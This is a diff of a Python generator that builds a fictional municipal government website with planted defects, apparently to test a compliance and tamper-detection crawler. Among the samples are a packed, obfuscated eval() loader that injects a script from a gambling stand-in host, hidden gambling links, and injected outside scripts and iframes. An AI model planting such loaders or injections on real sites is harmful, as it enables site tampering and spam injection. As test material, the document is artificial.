@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""What stands on the test site: columns, articles, attachments, every defect and every harmless look-alike, and what changes on day 2."""
+"""What stands on the test site: columns, articles, attachments, every defect and every harmless look-alike, and what changes on days 2 and 3."""
 import datetime
 import json
 import os
@@ -42,7 +42,7 @@ def attach(site, article, name, data, text):
 
 def portal(site):
     """www.xingyi.test: columns of every class at their thresholds, and most of the defects."""
-    today, second = site.today, site.day == 2
+    today, second = site.today, site.day >= 2
     column = site.column
     news = column(WWW, '/xw/zwyw/', '政务要闻', 'dynamic', number=101)
     site.fill(news, 200, FIRST, 0.6)
@@ -68,7 +68,7 @@ def portal(site):
     site.fill(column(WWW, '/fw/bstj/', '办事统计', 'other', number=131, days=90, warn_days=75, expect={1: '一般', 2: '一般'}), 12, days_before(91), 90)
     site.fill(column(WWW, '/fw/fwzn/', '服务指南', 'other', number=132, days=90, warn_days=75, expect={1: '疑似', 2: '一般'}), 15, days_before(90), 30)
     # Five of the first two classes that are not updated are a veto (site-stale), four are warned of: on day 1 three, on day 2 five.
-    site.defect(WWW, '/', 'site-stale', '严重', '检查指标 单项否决：动态要闻类、通知公告政策文件类栏目累计5个未更新', days=(2,))
+    site.defect(WWW, '/', 'site-stale', '严重', '检查指标 单项否决：动态要闻类、通知公告政策文件类栏目累计5个未更新', days=(2, 3))
     for path, name, blank, number in (('/zwgk/ghjh/', '规划计划', '<p>暂无内容</p>', 141), ('/zwgk/tjxx/', '统计信息', '<p>栏目正在建设中</p>', 142)):
         column(WWW, path, name, 'other', number=number, days=365, warn_days=300, blank=blank)
         site.defect(WWW, path, 'column-blank', '一般', 'R1-11(1)、检查指标：空白栏目')
@@ -83,11 +83,13 @@ def portal(site):
     if second:
         changes_of_portal(site, news, units, notices)
     hot = ''.join(site.item(article) for article in notices.articles if article.number in (1116001, 1116002))
+    traps = (f'<a href="/hd/rl/?y={today.year}&amp;m={today.month}">工作日历</a> <a href="/hd/list.html">意见征集</a> <a href="/bs/a/">办事大厅</a> '
+             '<a href="/hd/zx/1.html">网上咨询</a> <a href="/hd/yy/index.html">预约</a> ') if site.traps else ''
+    archive = ' <a href="/dag/">档案馆</a>' if site.archive else ''
     site.home(WWW, [news, units, notices, policy], f'<div class="box"><h2>报名进行中</h2><ul class="list">\n{hot}</ul></div>\n'
-              f'<div class="box"><h2>更多</h2><a href="/hd/rl/?y={today.year}&amp;m={today.month}">工作日历</a> <a href="/hd/list.html">意见征集</a> '
-              '<a href="/bs/a/">办事大厅</a> <a href="/hd/zx/1.html">网上咨询</a> <a href="/hd/yy/index.html">预约</a> <a href="/zt/gfjz/index.html">国防教育</a> '
-              '<a href="/zt/ylgj/index.html">医疗改革</a> <a href="/zt/zsyz/index.html">招商引资</a> <a href="/zt/sjzd/index.html">手机站点</a> '
-              '<a href="/nosee/1.html">内网入口</a>' + (' <a href="/dag/">档案馆</a>' if site.archive else '') + '</div>\n')
+              f'<div class="box"><h2>更多</h2>{traps}<a href="/zt/gfjz/index.html">国防教育</a> <a href="/zt/ylgj/index.html">医疗改革</a> '
+              '<a href="/zt/zsyz/index.html">招商引资</a> <a href="/zt/sjzd/index.html">手机站点</a> '
+              f'<a href="/nosee/1.html">内网入口</a>{archive}</div>\n')
     # robots.txt forbids the folder: a crawler that keeps to it never learns what stands there.
     site.plain(WWW, '/nosee/1.html', '内网入口', '<p>请使用内网地址登录。</p><p>澳门新葡京娱乐城注册送彩金，真人百家乐开户</p>')
 
@@ -117,7 +119,7 @@ def content_of_portal(site, news, notices, policy, topics):
     # A figure that nobody can have released: the month is not over.
     article = site.own(news, 1016101, '全市经济运行总体平稳', days_before(2), ['1—11月，全市规模以上工业增加值同比增长8.2%，经济运行总体平稳。', '下一步，将继续做好各项工作。'])
     defect(WWW, article.path, 'statistics.unreleased', '严重', 'R2-8(1)：未发布的经济数据')
-    # Harmless, though full of the words: the law itself, police news, masked lists, a packed attachment of nothing.
+    # Harmless, though full of the words: the law itself, police news, a masked list, attachments of each format.
     site.own(topics, 1616201, '保密法宣传：国家秘密的密级', DATE(2023, 5, 10), ['《中华人民共和国保守国家秘密法》规定，国家秘密的密级分为绝密、机密、秘密三级。', '机关、单位应当依法确定密级。'])
     site.own(topics, 1616202, '公安机关打击跨境赌博违法犯罪', DATE(2023, 9, 1), ['公安机关依法打击开设赌场、组织参与跨境赌博等违法犯罪，提醒群众不要参与网络赌博，发现线索及时举报。'])
     site.own(notices, 1116103, '2026年第三季度临时救助名单公示', days_before(40), ['现将临时救助名单公示如下。', table(('序号', '姓名', '身份证号', '金额（元）'), [
@@ -135,11 +137,12 @@ def content_of_portal(site, news, notices, policy, topics):
 
 def links_of_portal(site, news, notices):
     """Links and attachments that are broken, wrong, expired, or only look so; traps."""
-    defect, first = site.defect, (1,)
+    defect = site.defect
     target = '/xw/zwyw/202610/t20261001_999999.html'
-    mended = f'<a href="{target}">相关报道</a>' if site.day == 1 else '<a href="/xw/zwyw/">相关报道</a>'
-    site.own(news, 1016201, '交通部门做好道路养护工作', days_before(55), ['交通部门组织力量开展养护。', f'<p>更多内容见{mended}。</p>'])
-    defect(WWW, target, 'link-broken', '一般', '检查指标：站内链接打不开（第二天已改正）', days=first)
+    mended = '<a href="/xw/zwyw/">相关报道</a>' if site.day == 2 else f'<a href="{target}">相关报道</a>'
+    site.own(news, 1016201, '交通部门做好道路养护工作', days_before(55), ['交通部门组织力量开展养护。', f'<p>更多内容见{mended}。</p>'],
+             changed=site.edited('link') if site.day > 1 else None)
+    defect(WWW, target, 'link-broken', '一般', '检查指标：站内链接打不开（第二天改正，第三天重现）', days=(1, 3))
     article = site.own(notices, 1116201, '关于征集民生实事项目的通知', days_before(60), ['请填写附件中的表格。', '<p>附件：<a href="zhengji.docx">征集表.docx</a></p>'])
     defect(WWW, os.path.dirname(article.path) + '/zhengji.docx', 'attachment-broken', '一般', '检查指标：附件打不开')
     for number, name, data, what, why in (
@@ -183,7 +186,7 @@ def dates_of_portal(site, news, notices):
     defect(WWW, article.path, 'date-future', '一般', 'R1-10(2)：发布日期在将来')
     article = site.own(notices, 1116301, '关于节约用水的通告', DATE(2026, 11, 3), ['现就节约用水有关事项通告如下。', '各单位要落实节水措施。', '<p align="right">兴义市水务局<br>2026年11月10日</p>'])
     defect(WWW, article.path, 'date-before-document', '疑似', 'DOMAIN 6.4：发布日期早于成文日期')
-    for number, published, last, expect in ((1116001, DATE(2026, 11, 2), '2026年11月15日', (1, 2)), (1116002, DATE(2026, 11, 10), '2026年11月24日', (2,))):
+    for number, published, last, expect in ((1116001, DATE(2026, 11, 2), '2026年11月15日', (1, 2, 3)), (1116002, DATE(2026, 11, 10), '2026年11月24日', (2, 3))):
         article = site.own(notices, number, '社区工作者招聘公告' if number == 1116001 else '青少年科技活动报名公告', published, [
             '报名采取现场报名方式进行。', f'报名截止时间：{last}。', '报名地点：兴义市政务服务中心。'])
         defect(WWW, article.path, 'notice-expired', '一般', 'R1-10(2)：首页“报名进行中”所列公告报名已截止', days=expect)
@@ -195,8 +198,8 @@ def dates_of_portal(site, news, notices):
 
 
 def changes_of_portal(site, news, units, notices):
-    """Day 2, beside what the day itself changes."""
-    today, defect = site.today, site.defect
+    """Days 2 and 3, beside what the days themselves change."""
+    today, defect = site.date(2), site.defect
     for column in (news, units, notices):
         for index in range(2):
             site.ordinary(column, column.number * 10000 + 5001 + index, today)
@@ -212,20 +215,23 @@ def changes_of_portal(site, news, units, notices):
     changed.title += '（修订）'
     changed.changed = site.moment(today, 'retitled')
     defect(WWW, changed.path, 'title-changed', '疑似', 'R1-16(2)：标题改变而没有放行记录')
+    # On day 3 the hidden block and the changed script are gone again, and two more articles have come.
     hidden = next(article for article in news.articles if article.number == 1014970)
-    hidden.tail, hidden.changed = HIDDEN, site.moment(today, 'hidden')
-    defect(WWW, hidden.path, 'hidden-new', '严重', 'R1-16：新出现的隐藏块')
-    defect(WWW, hidden.path, 'tamper.page', '严重', 'R1-16、检查指标 单项否决：隐藏的外链')
-    defect(WWW, hidden.path, 'prohibited.6.hidden-stuffing', '疑似', 'R1-15(6)：隐藏的赌博文字')
+    hidden.tail, hidden.changed = '' if site.day == 3 else HIDDEN, site.edited('hidden')
+    defect(WWW, hidden.path, 'hidden-new', '严重', 'R1-16：新出现的隐藏块', days=(2,))
+    defect(WWW, hidden.path, 'tamper.page', '严重', 'R1-16、检查指标 单项否决：隐藏的外链', days=(2,))
+    defect(WWW, hidden.path, 'prohibited.6.hidden-stuffing', '疑似', 'R1-15(6)：隐藏的赌博文字', days=(2,))
     for what, severity in (('script-changed', '严重'), ('tamper.page', '严重'), ('prohibited.6.hidden-stuffing', '疑似'), ('prohibited.6.words', '疑似')):
-        defect(WWW, '/js/site.js', what, severity, 'R1-15(6)、R1-16：脚本被改，写出隐藏的赌博链接')
+        defect(WWW, '/js/site.js', what, severity, 'R1-15(6)、R1-16：脚本被改，写出隐藏的赌博链接', days=(2,))
     single = site.ordinary(notices, 1115030, DATE(2026, 10, 20), changed=site.moment(DATE(2026, 10, 20), 'single'))
     defect(WWW, single.path, 'date-forged', '疑似', '检查指标 单项否决（弄虚作假）：首次出现于 11 月 25 日，所示日期为 10 月 20 日')
+    for index in range(2 if site.day == 3 else 0):
+        site.ordinary(news, 1015101 + index, site.date(3))
 
 
 def disclosure(site):
     """zw.xingyi.test, all in GBK: half of the pages of the site."""
-    defect, second = site.defect, site.day == 2
+    defect, second = site.defect, site.day >= 2
     names = ('机构职能 规划信息 财政预决算 行政许可 行政处罚 重大项目 公共资源 社会保障 医疗卫生 教育信息 环境保护 安全生产 食品药品 征地拆迁 扶贫信息 '
              '价格收费 建议提案 应急管理 政府采购 人事信息 国有资产 社会救助 公共文化 市场监管 依法行政').split()
     columns = []
@@ -235,12 +241,13 @@ def disclosure(site):
         site.fill(made, 38, days_before(index * 2 + 1), 17)
         columns.append(made)
     article = site.own(columns[7], 10086101, '城乡居民基本养老保险待遇核定公示', days_before(18), ['现将核定结果公示如下。'])
-    if not second:
+    if site.day != 2:
         article.body += table(('序号', '姓名', '身份证号', '金额（元）'), [(index + 1, NAMES[index], identity(index), 1200 + index) for index in range(6)])
-        defect(ZW, article.path, 'personal.table-identity', '严重', 'R1-14：公示表格中的完整身份证号（第二天已改正）')
+        defect(ZW, article.path, 'personal.table-identity', '严重', 'R1-14：公示表格中的完整身份证号（第二天改正，第三天重现）', days=(1, 3))
     else:
         article.body += table(('序号', '姓名', '身份证号', '金额（元）'), [(index + 1, NAMES[index], masked(index), 1200 + index) for index in range(6)])
-        article.changed = site.moment(site.today, 'mended')
+    if second:
+        article.changed = site.edited('table')
     article = site.own(columns[8], 10096101, '医疗机构设置规划', days_before(22), ['<p>内部资料　注意保存</p>', '现将医疗机构设置规划印发。', '各单位要认真落实。'])
     defect(ZW, article.path, 'internal.mark', '严重', 'R6-6(5)：内部资料标志')
     article = site.own(columns[10], 10116101, '环境保护宣传月活动方案', DATE(2025, 6, 3), ['开展环境保护宣传活动。'], page_title='澳门新葡京娱乐城_真人百家乐_时时彩开户注册送彩金',
@@ -264,7 +271,7 @@ def disclosure(site):
     site.own(columns[24], 10256102, '社会治安综合治理工作要点', days_before(50), ['加强社会治安势必要求各单位协同配合。'])
     if second:
         for column in columns[:6]:
-            site.ordinary(column, column.number * 10000 + 5001, site.today)
+            site.ordinary(column, column.number * 10000 + 5001, site.date(2))
         columns[2].head = '<script src="http://cdn.jsq-stat.test/tj.js"></script>\n'
         defect(ZW, columns[2].path, 'script-new', '严重', 'R1-16：新出现的站外脚本')
         defect(ZW, columns[2].path, 'outside-host-new', '疑似', 'R1-16：新出现的站外主机 cdn.jsq-stat.test')
@@ -272,7 +279,7 @@ def disclosure(site):
 
 
 def education(site):
-    defect, second = site.defect, site.day == 2
+    defect, second = site.defect, site.day >= 2
     news = site.column(JYJ, '/xw/', '教育要闻', 'dynamic', number=301)
     site.fill(news, 50, FIRST, 1.5)
     notices = site.column(JYJ, '/gg/', '通知公告', 'announcement', number=302)
@@ -284,30 +291,38 @@ def education(site):
     packed = ("eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};"
               "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1(\"<2 3=4://5.6.7/8.9></2>\")',10,10,'document|write|script|src|http|www|5566bet|test|x|js'.split('|'),0,{}))")
     article = site.own(news, 3016101, '中小学开展阅读活动', DATE(2026, 2, 11), ['全市中小学开展阅读活动。'], head='' if second else f'<script>{packed}</script>\n',
-                       changed=site.moment(site.today, 'mended') if second else None)
+                       changed=site.moment(site.date(2), 'mended') if second else None)
     defect(JYJ, article.path, 'tamper.page', '严重', 'R1-16：打包的脚本写出站外脚本（第二天已改正）', days=(1,))
     article = site.own(exams, 3036101, '幼儿园教师资格面试安排', DATE(2026, 4, 9), ['请考生按时参加面试。'])
     path, link = attach(site, article, 'mianshi.pdf', fixture('tables/persons-text-ruled.pdf'), '面试人员名单.pdf')
     article.body += link
     for rule, severity, what in (('personal.table-identity', '严重', '完整身份证号'), ('personal.table-phones', '严重', '个人手机号'), ('personal.table-addresses', '疑似', '详细住址')):
         defect(JYJ, path, rule, severity, f'R1-14：PDF 名单中的{what}')
+    for number, path, rule, why in ((3036102, 'lists/list.doc', 'personal.table-identity', 'R1-14：doc 附件'), (3036103, 'lists/list.rtf', 'personal.table-identity', 'R1-14：rtf 附件'),
+                                    (3036104, 'lists/list.xls', 'personal.table-identity', 'R1-14：xls 附件'), (3036105, 'ole/pieces.wps', 'classified.mark', 'R2-2：wps 附件'),
+                                    (3036106, 'demo/upload/2023/huibao.pptx', 'internal.mark', 'R6-6(5)：pptx 附件备注中的内部资料'), (3036107, 'archive/plain.7z', 'classified.mark', 'R2-2：7z 附件'),
+                                    (3036108, 'ofd/pitch.ofd', 'classified.mark', 'R2-2：OFD 附件，字距分散')):
+        article = site.own(exams, number, f'关于考务工作有关表格的通知（{number % 100}）', DATE(2026, 3, number % 100), ['请下载附件。'])
+        path, link = attach(site, article, os.path.basename(path), fixture(path), '附件' + os.path.splitext(path)[1])
+        article.body += link
+        defect(JYJ, path, rule, '严重', why)
     article = site.own(notices, 3026102, '校园安全工作部署', DATE(2026, 5, 6), ['<p>机密★10年</p>', '各学校要落实安全责任。'])
     defect(JYJ, article.path, 'classified.mark', '严重', 'R2-2、R7-3：国家秘密标志')
     article = site.ordinary(news, 3016102, days_before(1))
     site.unpermitted.append(article.path)
     defect(JYJ, article.path, 'permit-missing', '一般', 'R7-3：未经审查的页面（没有放行记录）')
     if second:
-        site.ordinary(news, 3015001, site.today)
+        site.ordinary(news, 3015001, site.date(2))
         # Eight at once, dated back over two months.
         for index in range(8):
             day = DATE(2026, 9, 24) + datetime.timedelta(days=index * 7)
             article = site.ordinary(notices, 3025001 + index, day, changed=site.moment(day, f'forged{index}'))
             defect(JYJ, article.path, 'date-forged', '严重', f'检查指标 单项否决（弄虚作假）：8 个页面同日首次出现，所示日期分散于两个月，此页 {day}')
         framed = next(article for article in exams.articles if article.number == 3034990)
-        framed.body += '<iframe src="http://video.kan.test/p.html" width="600" height="400"></iframe>\n'
-        framed.changed = site.moment(site.today, 'framed')
-        defect(JYJ, framed.path, 'frame-new', '严重', 'R1-16：新出现的站外框架')
-        defect(JYJ, framed.path, 'outside-host-new', '疑似', 'R1-16：新出现的站外主机 video.kan.test')
+        framed.body += '<iframe src="http://video.kan.test/p.html" width="600" height="400"></iframe>\n' if site.day == 2 else ''
+        framed.changed = site.edited('framed')
+        defect(JYJ, framed.path, 'frame-new', '严重', 'R1-16：新出现的站外框架（第三天已去掉）', days=(2,))
+        defect(JYJ, framed.path, 'outside-host-new', '疑似', 'R1-16：新出现的站外主机 video.kan.test（第三天已去掉）', days=(2,))
         exams.page_title, exams.head = '时时彩平台_澳门新葡京_真人百家乐_注册送彩金', '<!-- -->\n'
         defect(JYJ, exams.path, 'title-changed', '严重', 'R1-16：栏目页标题被改')
         for rule, severity in (('tamper.page', '严重'), ('prohibited.6.stuffing', '严重'), ('prohibited.6.topics', '疑似')):
@@ -382,10 +397,10 @@ def register(site):
                         'closed.qxn.test': '127.0.0.1:@CLOSED_PORT@', 'fault.xingyi.test': '127.0.0.1:@FAULT_PORT@', 'tls.xingyi.test': '127.0.0.1:@TLS_PORT@'}}
 
 
-def write_contents(site, pages):
+def write_contents(site, pages, traps):
     """Everything under OUT."""
     from faults import FAULTS
-    site.unpermitted, site.archive = [], pages > 2100
+    site.unpermitted, site.archive, site.traps = [], pages > 2100, traps
     for make in (portal, disclosure, education, abandoned, outside):
         make(site)
     for column in site.columns:
@@ -404,7 +419,7 @@ def write_contents(site, pages):
 
 
 # Below these addresses there is no end of pages: how many a sweep may fetch of each.
-TRAPS = {'/hd/rl/': 60, '/hd/list.html': 8, '/hd/zx/': 4, '/hd/yy/': 30, '/bs/': 60}
+TRAPS = {'/hd/rl/': 60, '/hd/list.html': 20, '/hd/zx/': 4, '/hd/yy/': 30, '/bs/': 60}
 
 
 def write_expected(site, faults):
